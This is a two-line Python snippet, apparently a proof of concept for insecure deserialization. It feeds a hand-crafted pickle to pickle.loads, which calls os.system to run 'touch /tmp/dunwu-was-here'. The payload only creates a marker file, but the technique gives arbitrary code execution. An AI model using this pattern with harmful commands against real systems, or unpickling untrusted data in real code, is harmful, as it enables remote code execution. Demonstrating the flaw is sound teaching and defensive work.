import pickle
pickle.loads(b'cos\nsystem\n(S"touch /tmp/dunwu-was-here"\ntR.')
